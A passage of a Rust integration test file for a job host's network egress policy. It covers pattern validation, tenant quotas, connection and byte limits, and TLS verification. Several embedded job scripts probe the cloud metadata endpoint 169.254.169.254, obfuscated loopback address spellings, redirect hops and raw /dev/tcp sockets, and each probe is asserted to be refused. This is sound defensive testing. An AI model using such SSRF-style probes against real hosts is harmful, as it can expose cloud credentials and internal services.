//! The network policy as a job, a tenant and an operator meet it: bad
//! patterns are refused at deploy and by `PUT .../settings`, a bad quota
//! or `--network` refuses the host's start, every run that asks for the
//! network says what it asked for and what bounds it, and the host's bound
//! takes a native job's sockets away, judged by a real listener on
//! loopback.

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use common::{Env, skip};

#[test]
fn bad_patterns_are_refused_at_deploy_naming_the_pattern_and_why() {
    let env = Env::new();
    let src = env.dir_bundle(
        "bad",
        &[
            ("run.js", "console.log('hi')"),
            (
                "settings.job",
                r#"{"network": ["https://api.example.com", "ftp://files.example.com", "tcp://db.internal"]}"#,
            ),
        ],
    );
    let out = env.run(&["deploy", src.to_str().unwrap()]).fails();
    let err = out.stderr();
    assert!(
        err.contains("network pattern \"ftp://files.example.com\": unknown scheme 'ftp'"),
        "{err}"
    );
    assert!(
        err.contains("network pattern \"tcp://db.internal\": tcp:// needs a port"),
        "{err}"
    );
    // Nothing was installed.
    assert!(!env.job_dir("bad").exists());
    let not_a_list = env.dir_bundle(
        "odd",
        &[("run.js", "1"), ("settings.job", r#"{"network": "yes"}"#)],
    );
    let out = env.run(&["deploy", not_a_list.to_str().unwrap()]).fails();
    assert!(
        out.stderr()
            .contains("'network' must be true, false or a list of patterns"),
        "{}",
        out.stderr()
    );
}

#[test]
fn put_settings_refuses_a_bad_pattern() {
    let env = Env::new();
    let secret = env.add_tenant("acme");
    let auth = common::http::basic("acme", &secret);
    let s = common::http::start(&env);
    common::http::upload(&s, &auth, "triggered", "job", &[("run.js", b"1")]);
    let (status, body) = common::http::put_raw(
        &s,
        "/api/triggeredwebjobs/job/settings",
        &auth,
        "Content-Type: application/json\r\n",
        br#"{"network": ["https://*.com"]}"#,
    );
    assert_eq!(status, 400, "{body}");
    assert!(
        body.contains("would allow a whole top-level domain"),
        "{body}"
    );
    let (status, body) = common::http::put_raw(
        &s,
        "/api/triggeredwebjobs/job/settings",
        &auth,
        "Content-Type: application/json\r\n",
        br#"{"network": ["https://api.example.com"]}"#,
    );
    assert_eq!(status, 200, "{body}");
}

#[test]
fn a_bad_bound_refuses_the_start_naming_it() {
    let env = Env::new();
    let out = env.run(&["--network", "public,ftp://x", "list"]).fails();
    assert!(
        out.stderr().contains("unknown scheme 'ftp'"),
        "{}",
        out.stderr()
    );
    std::fs::create_dir_all(env.root()).unwrap();
    std::fs::write(
        env.root().join("quotas.toml"),
        "[tenants.acme]\nnetwork = \"off,public\"\n",
    )
    .unwrap();
    let out = env
        .cmd()
        .args(["serve", "--listen", "127.0.0.1:0"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(
        err.contains("network") && err.contains("'off' cannot be combined"),
        "{err}"
    );
}

#[test]
fn a_run_says_what_it_asked_for_and_what_it_got() {
    let env = Env::new();
    env.deploy_js(
        "caller",
        "console.log('hi')",
        Some(r#"{"network": ["https://api.example.com", "tcp://db.internal:5432"]}"#),
    );
    env.run(&["--executor", "wasm", "run", "caller"]).ok();
    let log = env.latest_log("caller");
    assert!(
        log.contains(
            "Network: the job asks for https://api.example.com, tcp://db.internal:5432; this host allows public"
        ),
        "{log}"
    );
    assert!(
        log.contains("Network: the guest's sockets are the host's; every connection is held to the policy above"),
        "{log}"
    );
    // A job that asks for nothing says nothing.
    env.deploy_js("quiet", "console.log('hi')", None);
    env.run(&["run", "quiet"]).ok();
    assert!(!env.latest_log("quiet").contains("Network:"));
    // The operator's bound is in the line.
    env.run(&[
        "--network",
        "public,tcp://10.0.0.0/8:*",
        "--executor",
        "wasm",
        "run",
        "caller",
    ])
    .ok();
    let log = env.latest_log("caller");
    assert!(
        log.contains("this host allows public,tcp://10.0.0.0/8:*"),
        "{log}"
    );
}

/// Whether a native job with `"network": true` reaches a listener on
/// loopback, on a host that gives runs no network namespace, with
/// `--network` set to `bound`; and the run's log.
fn reaches_loopback(env: &Env, bound: &str) -> (bool, String) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    env.deploy_files(
        "dialer",
        &[
            (
                "run.sh",
                &format!(
                    "if exec 3<>/dev/tcp/127.0.0.1/{port}; then echo connected; echo hello >&3; else echo refused; fi\n"
                ),
            ),
            ("settings.job", r#"{"network": true}"#),
        ],
    );
    let _ = env
        .cmd()
        .args([
            "--executor",
            "native",
            "--no-net-namespace",
            "--network",
            bound,
            "run",
            "dialer",
        ])
        .output()
        .unwrap();
    // Judged by the listener: did anything connect?
    let deadline = Instant::now() + Duration::from_secs(2);
    let mut reached = false;
    while Instant::now() < deadline {
        if let Ok((mut s, _)) = listener.accept() {
            let mut buf = String::new();
            s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
            let _ = s.read_to_string(&mut buf);
            reached = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    (reached, env.latest_log("dialer"))
}

#[test]
fn the_hosts_bound_takes_a_native_jobs_sockets_away() {
    let env = Env::new();
    if let Err(why) = common::native_sandbox(&env) {
        return skip(&why);
    }
    // `true` is whatever the host allows: with no network namespace, the
    // default bound leaves the job its sockets (as before).
    let (reached, log) = reaches_loopback(&env, "public");
    assert!(reached, "{log}");
    assert!(log.contains("connected"), "{log}");
    // `--network off`: the sandbox's socket filter is back on.
    let (reached, log) = reaches_loopback(&env, "off");
    assert!(!reached, "the listener got a connection:\n{log}");
    assert!(
        log.contains("Network: the job asks for whatever the host allows; this host allows off"),
        "{log}"
    );
    assert!(
        log.contains(
            "Network: this run gets none: the host's or the tenant's bound allows no network"
        ),
        "{log}"
    );
}

/// `wasmjobs --executor native --network BOUND run NAME -- ARGS`; the run
/// may fail (its log says how).
fn run_native(env: &Env, bound: &str, name: &str, args: &[&str]) {
    env.cmd()
        .args([
            "--executor",
            "native",
            "--network",
            bound,
            "run",
            name,
            "--",
        ])
        .args(args)
        .output()
        .expect("running wasmjobs");
}

/// Whether native jobs run here with curl, else why not.
fn native_with_curl(env: &Env) -> Result<(), String> {
    common::native_sandbox(env)?;
    if !std::path::Path::new("/usr/bin/curl").exists() {
        return Err("curl is not installed (scripts/setup.sh installs it)".into());
    }
    Ok(())
}

/// An HTTP server on 127.0.0.1 that counts its connections: `/redirect`
/// answers `302` to `redirect_to`, `/big` 3 MiB, `/slow` after 4 s,
/// `/chunked` a chunked body split inside a UTF-8 character, `/close` a
/// body ended by closing,
/// `POST /sink` after reading its whole body,
/// anything else `200` with `body`.
fn http_server(body: &'static str, redirect_to: String) -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(mut c) = c else { continue };
            h.fetch_add(1, Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let n = c.read(&mut buf).unwrap_or(0);
            let head = String::from_utf8_lossy(&buf[..n]).to_string();
            if head.starts_with("POST /sink ") {
                // Read the body to its end (or until the client is gone).
                let mut rest = [0u8; 65536];
                while c.read(&mut rest).is_ok_and(|n| n > 0) {}
                continue;
            }
            if head.starts_with("GET /big ") {
                let big = vec![b'x'; 3 << 20];
                let _ = c.write_all(
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        big.len()
                    )
                    .as_bytes(),
                );
                let _ = c.write_all(&big);
                continue;
            }
            if head.starts_with("GET /chunked ") {
                // Chunks that split "é" (c3 a9) between them.
                let _ = c.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n4\r\nh\xc3\xa9l\r\n");
                std::thread::sleep(Duration::from_millis(50));
                let _ = c.write_all(b"3\r\nlo \r\n6\r\nw\xc3\xb6rld\r\n0\r\n\r\n");
                continue;
            }
            if head.starts_with("GET /close ") {
                // No length: the body ends when the server closes.
                let _ = c.write_all(b"HTTP/1.0 200 OK\r\n\r\nuntil-close");
                continue;
            }
            if head.starts_with("GET /slow ") {
                std::thread::sleep(Duration::from_secs(4));
            }
            let answer = if head.starts_with("GET /redirect ") {
                format!(
                    "HTTP/1.1 302 Found\r\nLocation: {redirect_to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                )
            } else {
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                )
            };
            let _ = c.write_all(answer.as_bytes());
        }
    });
    (port, hits)
}

/// A child process killed when dropped (a failing test leaves none).
struct Killed(std::process::Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A TLS server on 127.0.0.1 (python3's ssl) with a certificate of a CA
/// made here; its port and the CA's PEM, or why it cannot be made.
fn tls_server(env: &Env, body: &str) -> Result<(u16, std::path::PathBuf, Killed), String> {
    let dir = env.dir.path().join("tls");
    std::fs::create_dir_all(&dir).unwrap();
    let openssl = |args: &[&str]| -> Result<(), String> {
        let out = std::process::Command::new("openssl")
            .args(args)
            .current_dir(&dir)
            .output()
            .map_err(|e| format!("openssl: {e}"))?;
        out.status
            .success()
            .then_some(())
            .ok_or_else(|| String::from_utf8_lossy(&out.stderr).to_string())
    };
    openssl(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "ca.key",
        "-out",
        "ca.pem",
        "-days",
        "1",
        "-subj",
        "/CN=wasmjobs test CA",
    ])?;
    openssl(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        "server.key",
        "-out",
        "server.csr",
        "-subj",
        "/CN=127.0.0.1",
    ])?;
    std::fs::write(dir.join("ext"), "subjectAltName=IP:127.0.0.1\n").unwrap();
    openssl(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "server.pem",
        "-days",
        "1",
        "-extfile",
        "ext",
    ])?;
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    std::fs::write(dir.join("body"), body).unwrap();
    let script = format!(
        r#"
import http.server, ssl
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        b = open("body", "rb").read()
        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", {port}), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain("server.pem", "server.key")
s.socket = c.wrap_socket(s.socket, server_side=True)
s.serve_forever()
"#
    );
    let child = std::process::Command::new("python3")
        .args(["-c", &script])
        .current_dir(&dir)
        .spawn()
        .map_err(|e| format!("python3: {e}"))?;
    let deadline = Instant::now() + Duration::from_secs(10);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        if Instant::now() > deadline {
            return Err("the TLS server did not start".into());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok((port, dir.join("ca.pem"), Killed(child)))
}

#[test]
fn a_native_job_reaches_exactly_its_allowed_servers_through_the_host() {
    let env = Env::new();
    if let Err(why) = native_with_curl(&env) {
        return skip(&why);
    }
    let (other, other_hits) = http_server("other", String::new());
    let (allowed, hits) = http_server("allowed-bytes", format!("http://127.0.0.1:{other}/"));
    let (tls, ca, _tls_server) = match tls_server(&env, "tls-bytes") {
        Ok(t) => t,
        Err(why) => return skip(&why),
    };
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let ca_text = std::fs::read_to_string(&ca).unwrap();
    let script = format!(
        r#"c() {{ curl -sS -m 10 "$@" 2>&1; echo " [exit $?]"; }}
echo "allowed: $(c http://127.0.0.1:{allowed}/)"
echo "spelled: $(c http://2130706433:{allowed}/)"
echo "tls: $(c --cacert ca.pem https://127.0.0.1:{tls}/)"
echo "other port: $(c http://127.0.0.1:{other}/)"
echo "other loopback: $(c http://127.0.0.2:{allowed}/)"
echo "other spelling: $(c http://0x7f.0.0.2:{allowed}/)"
echo "metadata: $(c http://169.254.169.254/latest/meta-data/)"
echo "redirect: $(c -L http://127.0.0.1:{allowed}/redirect)"
echo "direct: $(c --noproxy '*' http://127.0.0.1:{allowed}/)"
echo "udp: $( (echo hi > /dev/udp/127.0.0.1/{udp_port}) 2>&1; echo "[exit $?]")"
"#
    );
    let settings =
        format!(r#"{{"network": ["http://127.0.0.1:{allowed}", "https://127.0.0.1:{tls}"]}}"#);
    env.deploy_files(
        "fetcher",
        &[
            ("run.sh", &script),
            ("ca.pem", &ca_text),
            ("settings.job", &settings),
        ],
    );
    let bound = format!("public,tcp://127.0.0.1:{allowed},tcp://127.0.0.1:{tls}");
    run_native(&env, &bound, "fetcher", &[]);
    let log = env.latest_log("fetcher");
    let line = |what: &str| {
        log.lines()
            .find(|l| {
                l.contains(&format!("] {what}: "))
                    || l.starts_with(&format!("{what}: "))
                    || l.contains(&format!(" {what}: "))
            })
            .unwrap_or_else(|| panic!("no line '{what}' in:\n{log}"))
            .to_string()
    };
    // Allowed: the right bytes, however the address is spelled, and TLS
    // end to end through the host.
    assert!(line("allowed").contains("allowed-bytes [exit 0]"), "{log}");
    assert!(line("spelled").contains("allowed-bytes [exit 0]"), "{log}");
    assert!(line("tls").contains("tls-bytes [exit 0]"), "{log}");
    // Refused, each named in the log with the pattern that would allow it.
    for what in ["other port", "other loopback", "other spelling", "metadata"] {
        assert!(line(what).contains(": refused: "), "{what}: {log}");
    }
    assert!(
        log.contains(&format!(
            "127.0.0.1:{other}: refused: no pattern of the job's allows it"
        )),
        "{log}"
    );
    assert!(log.contains("127.0.0.2:"), "{log}");
    assert!(log.contains("169.254.169.254:80: refused"), "{log}");
    // The redirect's second hop is judged again: refused.
    assert!(!line("redirect").contains("other"), "{log}");
    // A client that ignores the proxy: on a root host its own connection
    // is held to the same policy and relayed; elsewhere it finds no route.
    let root = is_root();
    assert_eq!(line("direct").contains("allowed-bytes"), root, "{log}");
    // Judged by the servers: the allowed one saw the allowed requests
    // (and the redirect's first hop), the other none; no datagram.
    assert_eq!(hits.load(Ordering::SeqCst), 3 + usize::from(root), "{log}");
    assert_eq!(other_hits.load(Ordering::SeqCst), 0, "{log}");
    let mut buf = [0u8; 16];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "a datagram arrived:\n{log}"
    );
    assert!(log.contains("Network: through the host only"), "{log}");
    assert!(
        log.contains("bytes out") && log.contains("bytes in"),
        "{log}"
    );
}

#[test]
fn a_tenant_cannot_widen_its_jobs_network_beyond_its_quota() {
    let env = Env::new();
    if let Err(why) = native_with_curl(&env) {
        return skip(&why);
    }
    let (a_port, a_hits) = http_server("server-a", String::new());
    let (b_port, b_hits) = http_server("server-b", String::new());
    let secret_a = env.add_tenant("alpha");
    let secret_b = env.add_tenant("beta");
    std::fs::write(
        env.root().join("quotas.toml"),
        format!(
            "[tenants.alpha]\nnetwork = \"tcp://127.0.0.1:{a_port}\"\n[tenants.beta]\nnetwork = \"tcp://127.0.0.1:{b_port}\"\n"
        ),
    )
    .unwrap();
    let s = common::http::start_with(
        &env,
        &[
            "--executor",
            "native",
            "--network",
            "public,tcp://127.0.0.1:*",
        ],
        &[],
    );
    // Both tenants' jobs ask for both servers.
    let script = format!(
        "echo \"a: $(curl -sS -m 10 http://127.0.0.1:{a_port}/ 2>&1)\"\necho \"b: $(curl -sS -m 10 http://127.0.0.1:{b_port}/ 2>&1)\"\n"
    );
    let settings =
        format!(r#"{{"network": ["http://127.0.0.1:{a_port}", "http://127.0.0.1:{b_port}"]}}"#);
    let mut logs = Vec::new();
    for (tenant, secret) in [("alpha", &secret_a), ("beta", &secret_b)] {
        let auth = common::http::basic(tenant, secret);
        common::http::upload(
            &s,
            &auth,
            "triggered",
            "caller",
            &[
                ("run.sh", script.as_bytes()),
                ("settings.job", settings.as_bytes()),
            ],
        );
        let (code, id, body, _) = common::http::run(&s, &auth, "caller");
        assert_eq!(code, 202, "{body}");
        let run = common::http::wait_run(&s, &auth, "caller", &id);
        logs.push(common::http::output(&s, &auth, &run));
    }
    let (alpha, beta) = (&logs[0], &logs[1]);
    assert!(alpha.contains("a: server-a"), "{alpha}");
    assert!(
        alpha.contains(&format!(
            "127.0.0.1:{b_port}: refused: beyond what the tenant's quota allows"
        )),
        "{alpha}"
    );
    assert!(beta.contains("b: server-b"), "{beta}");
    assert!(
        beta.contains(&format!(
            "127.0.0.1:{a_port}: refused: beyond what the tenant's quota allows"
        )),
        "{beta}"
    );
    // Judged by the servers: each saw its own tenant's request only.
    assert_eq!(a_hits.load(Ordering::SeqCst), 1, "{alpha}\n{beta}");
    assert_eq!(b_hits.load(Ordering::SeqCst), 1, "{alpha}\n{beta}");
    // And counted per tenant.
    let auth = common::http::basic("alpha", &secret_a);
    let (code, metrics) = common::http::get(&s, "/metrics", Some(&auth));
    assert_eq!(code, 200, "{metrics}");
    for line in [
        r#"wasmjobs_network_connections_total{tenant="alpha",outcome="allowed"} 1"#,
        r#"wasmjobs_network_connections_total{tenant="alpha",outcome="refused"} 1"#,
    ] {
        assert!(metrics.contains(line), "{line} not in:\n{metrics}");
    }
    assert!(
        !metrics.contains(r#"wasmjobs_network_bytes_total{tenant="alpha",direction="in"} 0"#),
        "{metrics}"
    );
}

/// Jobs `greedy` (its `entry` is `download`: 3 MiB in) and `pusher`
/// (`upload`: 3 MiB out), allowed the server on `port` with 1 MiB each way,
/// run by `run`: each run ends, naming its limit, before it finishes.
fn byte_caps(env: &Env, port: u16, entry: &str, download: &str, upload: &str, run: &dyn Fn(&str)) {
    for (name, script, key, said, limit) in [
        ("greedy", download, "net_in_mb", "received", "net_in"),
        ("pusher", upload, "net_out_mb", "sent", "net_out"),
    ] {
        let settings =
            format!(r#"{{"network": ["http://127.0.0.1:{port}"], "limits": {{"{key}": 1}}}}"#);
        env.deploy_files(name, &[(entry, script), ("settings.job", &settings)]);
        run(name);
        let log = env.latest_log(name);
        assert!(
            log.contains(&format!(
                "Job was stopped: it {said} more than 1 MiB through its network connections (limits.{key})."
            )),
            "{log}"
        );
        assert!(!log.contains("finished"), "{log}");
        let status = env.latest_status(name);
        assert_eq!(status["Status"], "Failed", "{status}");
        assert_eq!(status["Limit"], limit, "{status}");
    }
}

#[test]
fn a_runs_network_limits_refuse_or_end_the_excess_by_name() {
    let env = Env::new();
    if let Err(why) = native_with_curl(&env) {
        return skip(&why);
    }
    let (port, hits) = http_server("small", String::new());
    let bound = format!("public,tcp://127.0.0.1:{port}");
    // One connection at once: a second one while the first waits is
    // refused, naming the limit; the server never sees it.
    let script = format!(
        "curl -sS -m 10 http://127.0.0.1:{port}/slow > slow.txt 2>&1 &\nsleep 1.5\necho \"second: $(curl -sS -m 10 http://127.0.0.1:{port}/ 2>&1)\"\nwait\necho \"first: $(cat slow.txt)\"\n"
    );
    let settings = format!(
        r#"{{"network": ["http://127.0.0.1:{port}"], "limits": {{"net_connections": 1}}}}"#
    );
    env.deploy_files("one", &[("run.sh", &script), ("settings.job", &settings)]);
    run_native(&env, &bound, "one", &[]);
    let log = env.latest_log("one");
    assert!(
        log.contains("second: wasmjobs: too many connections (limits.net_connections)"),
        "{log}"
    );
    assert!(log.contains("first: small"), "{log}");
    assert!(
        log.contains(
            "refused: the run has as many connections through the host as it may (limits.net_connections = 1)"
        ),
        "{log}"
    );
    assert_eq!(hits.load(Ordering::SeqCst), 1, "{log}");
    // 1 MiB in, and out, at most: 3 MiB ends the run, naming the limit.
    byte_caps(
        &env,
        port,
        "run.sh",
        &format!("curl -sS -m 10 -o /dev/null http://127.0.0.1:{port}/big\necho finished\n"),
        &format!(
            "head -c 3145728 /dev/zero > big\ncurl -sS -m 10 --data-binary @big http://127.0.0.1:{port}/sink\necho finished\n"
        ),
        &|name| run_native(&env, &bound, name, &[]),
    );
}

#[test]
fn a_java_job_reaches_its_allowed_server_with_httpclient() {
    use std::process::Command;
    let env = Env::new();
    if let Err(why) = common::native_sandbox(&env) {
        return skip(&why);
    }
    let have = |b: &str| Command::new(b).arg("-version").output().is_ok();
    if !have("javac") || !have("java") {
        return skip("a JDK (javac, jar) is not installed (scripts/setup.sh installs it)");
    }
    let dir = tempfile::tempdir().unwrap();
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/net/Fetch.java");
    assert!(
        Command::new("javac")
            .arg("-d")
            .arg(dir.path())
            .arg(&src)
            .status()
            .unwrap()
            .success()
    );
    std::fs::write(dir.path().join("manifest.txt"), "Main-Class: Fetch\n").unwrap();
    assert!(
        Command::new("jar")
            .current_dir(dir.path())
            .args(["cfm", "run.jar", "manifest.txt", "Fetch.class"])
            .status()
            .unwrap()
            .success()
    );
    let jar = std::fs::read(dir.path().join("run.jar")).unwrap();
    let (allowed, hits) = http_server("java-bytes", String::new());
    let (other, other_hits) = http_server("other", String::new());
    let settings = format!(r#"{{"network": ["http://127.0.0.1:{allowed}"]}}"#);
    let zip = env.zip_bundle(
        "fetch",
        &[("run.jar", &jar), ("settings.job", settings.as_bytes())],
    );
    env.run(&["deploy", zip.to_str().unwrap(), "--name", "fetch"])
        .ok();
    let bound = format!("public,tcp://127.0.0.1:{allowed},tcp://127.0.0.1:{other}");
    run_native(
        &env,
        &bound,
        "fetch",
        &[
            &format!("http://127.0.0.1:{allowed}/"),
            &format!("http://127.0.0.1:{other}/"),
        ],
    );
    let log = env.latest_log("fetch");
    assert!(
        log.contains(&format!("http://127.0.0.1:{allowed}/ -> 200 java-bytes")),
        "{log}"
    );
    assert!(
        log.contains(&format!("http://127.0.0.1:{other}/ -> 403")),
        "{log}"
    );
    assert!(
        log.contains(&format!("127.0.0.1:{other}: refused")),
        "{log}"
    );
    assert_eq!(hits.load(Ordering::SeqCst), 1, "{log}");
    assert_eq!(other_hits.load(Ordering::SeqCst), 0, "{log}");
}

/// A line server on 127.0.0.1 (as SMTP's, Redis's or a database's): it
/// answers each line it reads with `echo: LINE`; its port and how many
/// connections it took.
fn echo_server() -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(c) = c else { continue };
            h.fetch_add(1, Ordering::SeqCst);
            std::thread::spawn(move || {
                let mut w = c.try_clone().unwrap();
                let r = std::io::BufReader::new(c);
                for line in std::io::BufRead::lines(r) {
                    let Ok(line) = line else { break };
                    if w.write_all(format!("echo: {line}\n").as_bytes()).is_err() {
                        break;
                    }
                }
            });
        }
    });
    (port, hits)
}

/// `wasmjobs --executor wasm --network BOUND [EXTRA...] run NAME`.
fn run_wasm(env: &Env, bound: &str, extra: &[&str], name: &str) {
    env.cmd()
        .args(["--executor", "wasm", "--network", bound])
        .args(extra)
        .args(["run", name])
        .output()
        .expect("running wasmjobs");
}

/// The line of a run's log that starts `what: `.
fn line_of(log: &str, what: &str) -> String {
    log.lines()
        .find(|l| l.starts_with(&format!("{what}: ")) || l.contains(&format!("] {what}: ")))
        .unwrap_or_else(|| panic!("no line '{what}' in:\n{log}"))
        .to_string()
}

/// The JS guest's clients, as jobs write them.
const JS_CLIENTS: &str = r#"
const http = require('http'), https = require('https'), net = require('net'), tls = require('tls');
const [A, O, T, E] = process.argv.slice(2).map(Number);
function get(mod, url, opts = {}) {
  return new Promise((done) => {
    const req = mod.get(url, opts, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c) => { body += c; });
      res.on('end', () => done(`${res.statusCode} ${body}`));
    });
    req.on('error', (e) => done(`error ${e.code}`));
  });
}
async function f(url, init) {
  try { const r = await fetch(url, init); return `${r.status} ${await r.text()}`; }
  catch (e) { return `error ${e.cause ? e.cause.code : e.name}`; }
}
function line(port, host = '127.0.0.1') {
  return new Promise((done) => {
    const s = net.connect(port, host, () => s.write('hello\n'));
    let got = '';
    s.setEncoding('utf8');
    s.on('data', (c) => { got += c; if (got.includes('\n')) s.end(); });
    s.on('close', () => done(got.trim()));
    s.on('error', (e) => done(`error ${e.code}`));
  });
}
function raw(port) {
  return new Promise((done) => {
    const s = tls.connect({ host: '127.0.0.1', port, rejectUnauthorized: false }, () => s.write('GET / HTTP/1.0\r\n\r\n'));
    const parts = [];
    s.on('data', (c) => parts.push(c));
    s.on('end', () => { const t = Buffer.concat(parts).toString(); done(t.slice(t.indexOf('\r\n\r\n') + 4)); });
    s.on('error', (e) => done(`error ${e.code}`));
  });
}
(async () => {
  console.log(`fetch: ${await f(`http://127.0.0.1:${A}/`)}`);
  console.log(`spelled: ${await f(`http://2130706433:${A}/`)}`);
  console.log(`http.get: ${await get(http, `http://127.0.0.1:${A}/`)}`);
  console.log(`chunked: ${await get(http, `http://127.0.0.1:${A}/chunked`)}`);
  console.log(`until close: ${await f(`http://127.0.0.1:${A}/close`)}`);
  console.log(`https.get: ${await get(https, `https://127.0.0.1:${T}/`, { rejectUnauthorized: false })}`);
  console.log(`https fetch: ${await f(`https://127.0.0.1:${T}/`, { signal: AbortSignal.timeout(10000) })}`);
  console.log(`tls.connect: ${await raw(T)}`);
  console.log(`net.connect: ${await line(E)}`);
  console.log(`other port: ${await f(`http://127.0.0.1:${O}/`)}`);
  console.log(`other loopback: ${await f(`http://127.0.0.2:${A}/`)}`);
  console.log(`other spelling: ${await f(`http://0x7f.0.0.2:${A}/`)}`);
  console.log(`metadata: ${await f('http://169.254.169.254/latest/meta-data/')}`);
  console.log(`redirect: ${await f(`http://127.0.0.1:${A}/redirect`)}`);
  console.log(`line elsewhere: ${await line(E, '127.0.0.2')}`);
})();
"#;

#[test]
fn a_js_job_reaches_exactly_its_allowed_servers_through_the_hosts_sockets() {
    let env = Env::new();
    let (other, other_hits) = http_server("other", String::new());
    let (allowed, hits) = http_server("allowed-bytes", format!("http://127.0.0.1:{other}/"));
    let (echo, echo_hits) = echo_server();
    let (tls, ca, _tls_server) = match tls_server(&env, "tls-bytes") {
        Ok(t) => t,
        Err(why) => return skip(&why),
    };
    let settings = format!(
        r#"{{"network": ["http://127.0.0.1:{allowed}", "https://127.0.0.1:{tls}", "tcp://127.0.0.1:{echo}"]}}"#
    );
    env.deploy_files(
        "clients",
        &[("run.js", JS_CLIENTS), ("settings.job", &settings)],
    );
    let args = format!("{allowed} {other} {tls} {echo}");
    let bound =
        format!("public,tcp://127.0.0.1:{allowed},tcp://127.0.0.1:{tls},tcp://127.0.0.1:{echo}");
    let run = |extra: &[&str]| {
        env.cmd()
            .args(["--executor", "wasm", "--network", &bound])
            .args(extra)
            .args(["run", "clients", "--"])
            .args(args.split(' '))
            .output()
            .expect("running wasmjobs");
        env.latest_log("clients")
    };
    let ca_arg = ca.to_str().unwrap().to_string();
    let log = run(&["--net-ca", &ca_arg]);
    // Allowed: the right bytes, however the address is spelled and the
    // body is framed; TLS verified by the host against the operator's CA.
    for (what, want) in [
        ("fetch", "200 allowed-bytes"),
        ("spelled", "200 allowed-bytes"),
        ("http.get", "200 allowed-bytes"),
        ("chunked", "200 héllo wörld"),
        ("until close", "200 until-close"),
        ("https.get", "200 tls-bytes"),
        ("https fetch", "200 tls-bytes"),
        ("tls.connect", "tls-bytes"),
        ("net.connect", "echo: hello"),
    ] {
        assert!(line_of(&log, what).ends_with(want), "{what}: {log}");
    }
    // Refused, each named in the log with what would allow it.
    for what in [
        "other port",
        "other loopback",
        "other spelling",
        "metadata",
        "redirect",
        "line elsewhere",
    ] {
        assert!(
            line_of(&log, what).ends_with("error EACCES"),
            "{what}: {log}"
        );
    }
    assert!(
        log.contains(&format!(
            "127.0.0.1:{other}: refused: no pattern of the job's allows it (\"http://127.0.0.1:{other}\" would)"
        )),
        "{log}"
    );
    assert!(
        log.contains(&format!("127.0.0.2:{allowed}: refused")),
        "{log}"
    );
    assert!(log.contains("169.254.169.254:80: refused"), "{log}");
    assert!(log.contains(&format!("127.0.0.2:{echo}: refused")), "{log}");
    assert!(
        log.contains("Network: the guest's sockets are the host's"),
        "{log}"
    );
    assert!(
        log.contains(&format!(
            "Network: connected to 127.0.0.1:{tls} (TLS, verified)"
        )),
        "{log}"
    );
    assert!(
        log.contains("bytes out") && log.contains("bytes in"),
        "{log}"
    );
    // Judged by the servers: the allowed one saw the six allowed requests
    // (the redirect's first hop included), the other none; the line server
    // one connection.
    assert_eq!(hits.load(Ordering::SeqCst), 6, "{log}");
    assert_eq!(other_hits.load(Ordering::SeqCst), 0, "{log}");
    assert_eq!(echo_hits.load(Ordering::SeqCst), 1, "{log}");

    // Without the operator's CA the host trusts only the system's roots:
    // the job's rejectUnauthorized: false does not weaken that.
    let log = run(&[]);
    assert!(
        line_of(&log, "https.get").ends_with("error UNABLE_TO_VERIFY_LEAF_SIGNATURE"),
        "{log}"
    );
    assert!(
        line_of(&log, "tls.connect").ends_with("error UNABLE_TO_VERIFY_LEAF_SIGNATURE"),
        "{log}"
    );
    assert!(
        log.contains("TLS failed: invalid peer certificate"),
        "{log}"
    );
    assert!(
        line_of(&log, "fetch").ends_with("200 allowed-bytes"),
        "{log}"
    );
}

#[test]
fn a_js_jobs_network_limits_refuse_or_end_the_excess_by_name() {
    let env = Env::new();
    let (port, hits) = http_server("small", String::new());
    let bound = format!("public,tcp://127.0.0.1:{port}");
    // One connection at once: a second while the first waits is refused,
    // naming the limit; the server never sees it.
    let script = format!(
